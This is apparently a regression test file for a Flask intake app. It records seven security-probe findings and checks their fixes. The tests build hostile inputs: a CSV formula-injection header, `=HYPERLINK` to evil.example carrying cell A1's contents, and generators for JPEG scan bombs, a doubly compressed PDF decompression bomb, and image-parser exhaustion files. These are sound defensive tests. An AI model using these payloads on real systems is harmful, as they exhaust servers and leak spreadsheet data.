"""What the seventh outside probe found, each through the interface it was found on.

- A HEAD request to `/report` ran the view's POST branch: Flask answers HEAD with the GET view, and
  the view took every method but GET for a POST. The body of a HEAD was read, its files inspected
  and its images decoded for their viewing copies, with none of the POST limits (per visitor, the
  ceiling, the proof of work), since those count POSTs only. A HEAD answered 422 with an empty form;
  a flood of HEADs carrying photos spent the minute's budget of image pixels, so that families'
  photos sent meanwhile had their viewing copies deferred. HEAD is now the GET page, body unread.
- The CSV files we write for spreadsheets (the import page's dry-run report, `flask dedup csv`'s
  pairs.csv and clusters.csv, an export's CSV) neutralised a cell that starts a formula, but not a
  formula that starts after a semicolon or a line break inside a cell. Excel opens a .csv with the
  list separator of the computer's region, a semicolon in Turkish, Russian, German and most of
  Europe, and there quotation marks count only at the start of a piece: a list's header
  `Born;=HYPERLINK(...)` or a report id `R7;=1+1` came out as a cell of its own starting with
  `=`, a live formula. Every such piece now gets the apostrophe a whole cell gets.
- The statistics pages of the review face (`/research/statistics` for researchers, outside
  people, and `/review/statistics`) drew every chart with matplotlib on every request, as the public
  page did before the third probe: 0.63 s of CPU a GET (a 231 KB page), with no limit, so one
  signed-in researcher reloading it from a few tabs kept the review face's workers from reviewers.
  The charts are now drawn once per statistics run (by its counts), for both pages.
- A progressive JPEG of thousands of scans is refused before decoding (libjpeg goes through the
  whole image once a scan), but the scans were counted by a reader that stopped at the first byte
  that was not a marker, where libjpeg skips such bytes (with a warning) and reads on. One byte of
  garbage before the first scan hid every scan: a 300 KB photo of 4 megapixels whose last scan came
  2,000 times more cost 4.7 s of CPU in the public face's request (no child process there, no
  time limit), and the cost grows with pixels times scans (a 10 MB file of 36 megapixels: hours),
  up to five such files a report. The count now skips what libjpeg skips.
- A PDF's clean copy was made with pikepdf in the review face's own process, which the fix of the
  fourth probe left unbounded for what qpdf must decode to read the file at all: an object stream
  (the compressed container of a PDF's objects). A 2 MB PDF whose object stream inflates to 2 GB
  cost 8.6 s of CPU and 2.1 GB of memory when a reviewer asked for its clean copy; compressed
  twice, a few kilobytes do that, and the upload limit of 10 MB holds far more than any server's
  memory. The clean copy is now made in a child process bounded like the first page's rendering.
- The public face decodes a photo's viewing copy in its own process, charged to the budget of
  pixels a minute by width times height; but Pillow reads a file's structure in Python, a chunk,
  segment or block at a time, whatever the pixels: a 10x10 JPEG carrying 2.4 million empty comment
  segments (9.6 MB) cost 5.2 s of CPU, a PNG of 800,000 empty chunks 3.7 s, a GIF of 4.8 million
  one-byte comment blocks 2.1 s, each charged 100 pixels, five files a report, and before any check
  of the form (a form with an error is a re-show, which costs no submission). The scan count
  walked a scan's data in Python too (0.75 s for 9.6 MB of stuffed bytes). Files with more
  structure than any camera or editor writes are now refused before Pillow reads them, and the
  scan data is skipped at the speed of a regular expression.
- Statistics runs are dated to the second and the newest is the one shown (and the one a refresh
  compares with, to hold back a change of fewer than 5 persons): two refreshes within one second
  tied, and the older could be shown after the newer, or be the one compared with. Found as a
  flaky test (test_probe_round3's refresh test, which refreshes within a second). A run is now
  dated at least a second after the newest before it.
- The status page's forms (news and withdrawal) show themselves again without a charge when a
  family changes language or the form has an error, as the report form does; but only the report
  form had the limit on showing a form again. With a receipt of their own, one visitor could post
  the news form's language button without end (40 in a row on `flask dev`, about 40 ms each: a
  receipt check with Argon2id, the testimony's names decrypted, the page drawn), past the limit of
  10 follow-ups a minute, and use up the global ceiling of every family without script alone.
  Both forms now count against the re-show limit too.
"""

from __future__ import annotations

import csv
import io
import re
import struct
import zlib
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from intake.cli.dedup import dedup_cli
from intake.disclosure import charts
from intake.public import gate
from intake.services import statistics
from tests.dedup_population import write_csv
from tests.unit.imports.test_store import HEADERS, ROWS, csv_bytes
from tests.web.admin.test_imports_page import admin_client, confirm, stored as imported, upload  # noqa: F401
from PIL import Image
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from tests.helpers import full_report, submit
from tests.web.public.pages import field_value, open_status, post_report, relative, report_form, text_of
from tests.web.public.test_status import news_data
from tests.web.public.test_gate import TOKEN
from tests.web.public.test_image_budget import SIDE, photo, send_solved, stored
from tests.security.test_hostile_files import _attach, _pdf
from tests.web.review.test_exports_views import store
from tests.web.review.test_triage_views import reviewer  # noqa: F401


def test_a_head_of_the_report_form_is_its_get_and_decodes_nothing(app):
    app.config["INTAKE_IMAGE_PIXELS_PER_MINUTE"] = 2 * SIDE * SIDE  # room for two photos a minute
    client = app.test_client()
    with client.get("/report") as page:
        assert page.status_code == 200
    for n in range(3):
        data = report_form(client, relative(0, names__0__value="Tursun", testimony="kept"))
        data["attachments"] = [(io.BytesIO(photo((n * 60, 10, 10))), f"head-{n}.jpg")]
        with client.open("/report", method="HEAD", data=data, content_type="multipart/form-data") as head:
            assert head.status_code == 200, "a HEAD answers what a GET does"
    answer = send_solved(client, [("family.jpg", photo())])
    assert answer.status_code == 200, text_of(answer)
    rows = stored(app)
    assert sorted(rows) == ["family.jpg"]
    assert rows["family.jpg"][3] is not None, "the family's photo lost its viewing copy to HEAD requests"


FORMULA = ("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠")
# Where a spreadsheet whose list separator is ";" may start a cell: the file's start, after a
# semicolon, after a line break. A quotation mark opens a quoted value only at a piece's start; every
# line break is taken as one, to be safe (inside such a quoted value, it is not).
PIECE_START = re.compile(r'(?:^|[;\r\n]) *"?')


def live_formulas(text: str) -> list[str]:
    """The pieces of a CSV's text that such a spreadsheet would run as formulas."""
    return [text[m.end():m.end() + 30] for m in PIECE_START.finditer(text) if text[m.end():].startswith(FORMULA)]


def test_live_formulas_finds_what_a_semicolon_spreadsheet_runs():
    assert live_formulas('a,b\r\n1,"x;=1+1"\r\n') == ['=1+1"\r\n']
    assert live_formulas('"=1+1",b') == ['=1+1",b']
    assert live_formulas("a,\"x\n@SUM(1)\"") == ['@SUM(1)"']
    assert live_formulas("'=1+1,x;'=2,\"y\n'+3\"") == []


def test_the_import_report_runs_no_formula_in_a_semicolon_spreadsheet(app, admin_client):  # noqa: F811
    client, _ = admin_client
    headers = [HEADERS[0], 'Born;=HYPERLINK("http://evil.example/?"&A1,"click")', *HEADERS[2:]]
    rows = [[r[0], "03/04/1985", *r[2:]] for r in ROWS]
    html = upload(client, csv_bytes(rows, headers)).get_data(as_text=True)
    report = confirm(client, html, "report", ["name", "birth_date", "id_number", "home_county", "status", "testimony"])
    assert report.status_code == 200 and report.mimetype == "text/csv"
    text = report.get_data(as_text=True).lstrip("\ufeff")
    assert "HYPERLINK" in text, "the header is named in a problem"
    assert live_formulas(text) == []
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert 'Born;\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells  # still read as one cell
    assert imported(app) == 0


@pytest.mark.parametrize("separator", [";", ";  ", "\n", "\r\n"])
def test_dedup_csv_writes_no_formula_a_semicolon_spreadsheet_runs(tmp_path, monkeypatch, separator):
    monkeypatch.chdir(tmp_path)
    hostile = [f"R{n}{separator}{formula}" for n, formula in enumerate(["=1+1", "+1+1", "-2+3", "@SUM(1)", "＝1"])]
    rows = [{"report_id": rid, "given_name": "Ablimit", "father_name": "Tursun", "gender": "male",
             "birth_date": "1984-06-17", "home_place": "Kashgar", "chinese_id": "653101198406171232"}
            for rid in hostile]
    write_csv(str(tmp_path / "list.csv"), rows)
    result = CliRunner().invoke(dedup_cli, ["csv", "list.csv", "--out", "out"])
    assert result.exit_code == 0, result.output
    for name in ("pairs.csv", "clusters.csv"):
        text = Path(tmp_path / "out" / name).read_text("utf-8")
        assert live_formulas(text) == [], name
    with (tmp_path / "out" / "clusters.csv").open(newline="", encoding="utf-8") as handle:
        ids = {row["report_id"] for row in csv.DictReader(handle)}
    assert {i.replace("'", "") for i in ids} == set(hostile)  # every id there, recognisably


def _svgs(client, path: str) -> list[str]:  # noqa: ANN001
    return re.findall(r"<svg.*?</svg>", client.get(path).get_data(as_text=True), flags=re.S)


def test_the_review_faces_statistics_draw_their_charts_once_per_run(app, make_user, sign_in, monkeypatch):
    store(app, 60)
    runner = app.test_cli_runner()
    assert runner.invoke(args=["stats", "refresh"]).exit_code == 0
    drawn: list[str] = []
    real = charts.bar_chart
    monkeypatch.setattr(charts, "bar_chart", lambda table, **kw: drawn.append(table.title) or real(table, **kw))
    researcher, staff = app.test_client(), app.test_client()
    sign_in(researcher, make_user("researcher"))
    sign_in(staff, make_user("reviewer"))
    first = _svgs(researcher, "/research/statistics")
    tables = len(first)
    assert tables >= 5
    assert [_svgs(researcher, "/research/statistics") for _ in range(3)] == [first] * 3
    assert _svgs(staff, "/review/statistics") == first
    assert len(drawn) == tables, f"{len(drawn)} charts drawn for 5 views of one run of {tables} tables"

    _new_persons(app, 5)  # enough change for a refresh to count anew: its charts are drawn at once
    later = statistics.utcnow() + timedelta(seconds=2)  # runs are dated to the second; the newest is shown
    monkeypatch.setattr(statistics, "utcnow", lambda: later)
    assert "counted 65 persons" in runner.invoke(args=["stats", "refresh"]).output
    second = _svgs(researcher, "/research/statistics")
    assert len(second) == tables and second != first and len(drawn) == 2 * tables


def _new_persons(app, count: int) -> None:  # noqa: ANN001
    from intake.extensions import db
    from intake.keyring import get_vault
    from intake.services import take_in
    from tests.unit.test_exports_store import family, relative as person

    family(app, [person(1000 + n, gender="female", home_county="653101", status="released") for n in range(count)])
    with app.app_context():
        assert take_in.take_in(db.session, get_vault())[1] == 0


def _segments(data: bytes) -> list[bytes]:
    """A JPEG's marker segments after SOI, each scan with its entropy-coded data, EOI last."""
    out, pos = [], 2
    while data[pos + 1] != 0xD9:
        end = pos + 2 + int.from_bytes(data[pos + 2:pos + 4], "big")
        if data[pos + 1] == 0xDA:
            while data[end + 1] == 0 or 0xD0 <= data[end + 1] <= 0xD7 or data[end] != 0xFF:
                end = data.find(b"\xff", end + 1)
        out.append(data[pos:end])
        pos = end
    return out


def hidden_scans(garbage: bytes, copies: int = 300) -> bytes:
    """A progressive JPEG whose last scan (with its Huffman table) comes `copies` times more, with
    `garbage` before its first table: bytes libjpeg skips, with a warning, to the next marker."""
    out = io.BytesIO()
    Image.new("RGB", (256, 256), (120, 130, 140)).save(out, "JPEG", progressive=True)
    parts = _segments(out.getvalue())
    first = next(i for i, p in enumerate(parts) if p[1] in (0xC4, 0xDA))
    last = max(i for i, p in enumerate(parts) if p[1] == 0xDA)
    return b"\xff\xd8" + b"".join(parts[:first]) + garbage + b"".join(parts[first:]) + \
        b"".join(parts[last - 1:last + 1]) * copies + b"\xff\xd9"


@pytest.mark.parametrize("garbage", [b"\x00", b"junk", b"\xff\x00", b"\xff\xff\xff\x00\x00"])
def test_scans_hidden_behind_bytes_libjpeg_skips_are_counted(app, garbage):
    client = app.test_client()
    data = report_form(client, relative(0, names__0__value="Tursun", testimony="kept"))
    data["attachments"] = [(io.BytesIO(hidden_scans(garbage)), "photo.jpg")]
    answer = post_report(client, data)
    page = text_of(answer)
    assert answer.status_code == 422
    assert "the image is too large to be opened safely" in page
    assert field_value(page, "relatives-0-testimony") == "kept"


def object_stream_pdf(megabytes: int) -> bytes:
    """A one-page PDF whose page resources sit in an object stream compressed twice, padded with
    `megabytes` MiB of spaces after the object: qpdf inflates it all to read the page."""
    out, offsets = bytearray(b"%PDF-1.7\n"), {}

    def obj(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] /Resources 5 0 R >>")
    inner, outer, spaces, parts = zlib.compressobj(9), zlib.compressobj(9), b" " * (1 << 20), []
    parts.append(outer.compress(inner.compress(b"5 0 << /ProcSet [/PDF] >>")))
    for _ in range(megabytes):
        parts.append(outer.compress(inner.compress(spaces)))
    data = b"".join(parts) + outer.compress(inner.flush()) + outer.flush()
    obj(4, b"<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\n"
           b"endstream" % (len(data), data))
    xref = len(out)
    rows = b"\0\0\0\0\0\xff\xff" + b"".join(b"\1" + offsets[n].to_bytes(4, "big") + b"\0\0" for n in (1, 2, 3, 4))
    rows += b"\2\0\0\0\4\0\0" + b"\1" + xref.to_bytes(4, "big") + b"\0\0"  # 5: the object stream's first
    out.extend(b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\n"
               b"endobj\nstartxref\n%d\n%%%%EOF\n" % (len(rows), rows, xref))
    return bytes(out)


def test_a_clean_copy_reads_no_more_of_a_pdf_than_the_memory_limit_allows(app, reviewer):  # noqa: F811
    client, _ = reviewer
    app.config["INTAKE_PDF_RENDER_MEMORY_MB"] = 400
    small, bomb = object_stream_pdf(1), object_stream_pdf(600)
    assert len(bomb) < 20_000
    [small_id, bomb_id, photo_id] = _attach(app, ("small.pdf", small), ("bomb.pdf", bomb), ("scan.pdf", _pdf()))
    copies = {}
    for pdf_id in (small_id, photo_id, bomb_id):
        clean = client.get(f"/review/attachments/{pdf_id}/clean")
        if pdf_id == bomb_id and clean.status_code == 422:  # refused: as calm as an unreadable PDF
            assert "download the original" in clean.get_data(as_text=True)
            continue
        assert clean.status_code == 200 and clean.data.startswith(b"%PDF") and b"SENTINEL" not in clean.data
        copies[pdf_id] = clean.data
    assert b"/ProcSet" in copies[small_id], "an object stream within the limits is read as before"
    # The page's resources lie behind 600 MB of inflation: read, they would be in the copy.
    assert b"/ProcSet" not in copies.get(bomb_id, b""), "the review face inflated 600 MB for a clean copy"
    assert client.get(f"/review/attachments/{bomb_id}/original").data == bomb


def post_files(client, data: dict, files: list[tuple[str, bytes]]):  # noqa: ANN001, ANN201
    # Encoded here: the test client would spool a body this large to a temporary file, left open.
    fields = MultiDict(data)
    for name, body in files:
        fields.add("attachments", FileStorage(io.BytesIO(body), filename=name, content_type="application/octet-stream"))
    boundary, body = encode_multipart(fields)
    return client.post("/report", data=body, content_type=f"multipart/form-data; boundary={boundary}")


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def structured(kind: str, count: int) -> bytes:
    """A 10x10 image of `kind` with `count` empty pieces of structure before its pixels."""
    out = io.BytesIO()
    Image.new("RGB" if kind != "GIF" else "P", (10, 10), (90, 90, 90)).save(out, kind)
    data = out.getvalue()
    if kind == "JPEG":
        return data[:2] + b"\xff\xfe\x00\x02" * count + data[2:]  # empty comment segments
    if kind == "PNG":
        at = data.index(b"IDAT") - 4
        return data[:at] + _png_chunk(b"zzZz", b"") * count + data[at:]  # empty private chunks
    at = data.index(b"\x2c")  # the image descriptor
    return data[:at] + b"\x21\xfe" + b"\x01x" * count + b"\x00" + data[at:]  # a comment of 1-byte blocks


def _progressive_photo() -> bytes:
    out = io.BytesIO()
    Image.effect_noise((600, 400), 40).convert("RGB").save(out, "JPEG", progressive=True, quality=90)
    return out.getvalue()


def _png_in_small_chunks() -> bytes:
    """A real PNG whose pixel data is cut into 1 KB chunks, as a few encoders write them."""
    out = io.BytesIO()
    Image.effect_noise((700, 700), 60).save(out, "PNG")
    data = out.getvalue()
    first, end = data.index(b"IDAT") - 4, data.index(b"IEND") - 4
    pixels, at = b"", first
    while at < end:
        length = int.from_bytes(data[at:at + 4], "big")
        pixels += data[at + 8:at + 8 + length]
        at += 12 + length
    chunks = b"".join(_png_chunk(b"IDAT", pixels[i:i + 1024]) for i in range(0, len(pixels), 1024))
    return data[:first] + chunks + data[end:]


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "GIF"])
def test_an_image_with_more_structure_than_any_writer_makes_is_refused_unread(app, kind):
    client = app.test_client()
    data = report_form(client, relative(0, names__0__value="Tursun", testimony="kept"))
    answer = post_files(client, data, [(f"photo.{kind.lower()}", structured(kind, 100_000))])
    page = text_of(answer)
    assert answer.status_code == 422
    assert "the image is too large to be opened safely" in page
    assert field_value(page, "relatives-0-testimony") == "kept"


def test_images_as_cameras_and_editors_write_them_still_have_viewing_copies(app):
    files = [("progressive.jpg", _progressive_photo()), ("chunks.png", _png_in_small_chunks()),
             ("few.jpg", structured("JPEG", 40)), ("few.png", structured("PNG", 40)), ("few.gif", structured("GIF", 300))]
    client = app.test_client()
    data = report_form(client, relative(0, names__0__value="Tursun", testimony="kept"))
    token = TOKEN.search(text_of(client.get("/report"))).group(1)
    data.update(pow_token=token, pow_solution=gate.solve(token))  # exempt from the limits: five files at once
    answer = post_files(client, data, files)
    assert answer.status_code == 200, text_of(answer)
    rows = stored(app)
    assert sorted(rows) == sorted(name for name, _ in files)
    assert all(rows[name][3] is not None for name, _ in files), "a real image lost its viewing copy"


def test_a_refresh_in_the_same_second_as_the_last_is_the_one_shown(app, make_user, sign_in, monkeypatch):
    store(app, 60)
    now = statistics.utcnow()
    monkeypatch.setattr(statistics, "utcnow", lambda: now)  # every refresh within one second
    runner = app.test_cli_runner()
    assert "counted 60 persons" in runner.invoke(args=["stats", "refresh"]).output
    _new_persons(app, 5)
    assert "counted 65 persons" in runner.invoke(args=["stats", "refresh"]).output
    researcher = app.test_client()
    sign_in(researcher, make_user("researcher"))
    page = researcher.get("/research/statistics").get_data(as_text=True)
    assert re.search(r"sharing with researchers, as counted on .*?: (?:<bdi[^>]*>)?65\b", page), \
        "the older of two runs in one second is shown"


@pytest.mark.parametrize("path", ["/status/news", "/status/withdraw"])
def test_showing_a_status_form_again_is_limited_and_keeps_the_text(make_app, path):
    app = make_app("public", INTAKE_RESHOW_RATE_LIMIT="3/minute", INTAKE_FOLLOW_UP_RATE_LIMIT="1000/minute",
                   INTAKE_RECEIPT_RATE_LIMIT="1000/minute", INTAKE_NOSCRIPT_CEILING="1000/minute",
                   RATELIMIT_STORAGE_URI="memory://")
    stored = submit(app, full_report("a"))
    client = app.test_client()
    page = text_of(open_status(client, stored.receipt))
    data = news_data(page, news="He was moved.", action="lang-ug")  # a language button: the form again
    codes = [client.post(path, data=data).status_code for _ in range(3)]
    held = client.post(path, data=data)
    assert codes == [200, 200, 200] and held.status_code == 429
    assert path != "/status/news" or "He was moved." in text_of(held)
